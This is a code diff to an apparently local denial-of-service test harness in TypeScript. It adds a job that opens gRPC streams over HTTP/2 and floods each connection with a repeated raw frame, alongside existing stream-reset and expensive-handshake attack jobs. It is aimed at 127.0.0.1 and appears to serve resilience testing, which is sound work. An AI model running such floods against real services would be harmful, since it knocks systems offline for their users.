@@ -6,7 +6,7 @@ import { connect, type Socket } from "node:net";
 import { connect as connectTls, createSecureContext, type TLSSocket } from "node:tls";
 import { expensiveChain } from "../pki/expensive-chain.ts";
 import { frameOf, grpcHeaders } from "../protocol/grpc-call.ts";
-import { openAndReset, PREFACE } from "../protocol/h2-frames.ts";
+import { openAndReset, openCall, PREFACE } from "../protocol/h2-frames.ts";
 
 /** What an attacker does. Every connection that ends is opened again. */
 export type Job = { readonly port: number; readonly localAddress: string; readonly connections: number } & (
@@ -49,6 +49,12 @@ export type Job = { readonly port: number; readonly localAddress: string; readon
       readonly streams: number;
     }
   | {
+      /** Opens one gRPC stream on each connection, and sends the HTTP/2 frame (hexadecimal) again and again. */
+      readonly kind: "frames";
+      readonly path: string;
+      readonly frame: string;
+    }
+  | {
       /** Presents so many client certificates that are expensive to verify, and nothing after them. */
       readonly kind: "handshakes";
       readonly certificates: number;
@@ -79,7 +85,7 @@ async function keep(connections: number, open: (ended: () => void) => Promise<vo
 function openSocket({ kind, port, localAddress }: Job, tls: boolean, ended: () => void): Promise<Socket> {
   return new Promise((resolve) => {
     const options = { host: "127.0.0.1", port, localAddress };
-    const ALPNProtocols = kind === "resets" ? ["h2"] : [];
+    const ALPNProtocols = kind === "resets" || kind === "frames" ? ["h2"] : [];
     const socket: Socket | TLSSocket = tls
       ? connectTls({ ...options, ALPNProtocols, rejectUnauthorized: false }, () => resolve(socket))
       : connect(options, () => resolve(socket));
@@ -129,6 +135,19 @@ async function run(job: Job): Promise<void> {
     }
     case "streams":
       return keep(job.connections, (ended) => openStreams(job, ended));
+    case "frames": {
+      const frames = Buffer.from(job.frame.repeat(5_000), "hex");
+      return keep(job.connections, async (ended) => {
+        const socket = await openSocket(job, true, ended);
+        socket.resume();
+        socket.write(Buffer.concat([PREFACE, openCall(job.path, 1)]));
+        const pump = (): void => {
+          while (socket.writable && socket.write(frames));
+          socket.once("drain", pump);
+        };
+        pump();
+      });
+    }
     case "handshakes": {
       const { port, localAddress, certificates, connections } = job;
       const secureContext = createSecureContext(expensiveChain(certificates));
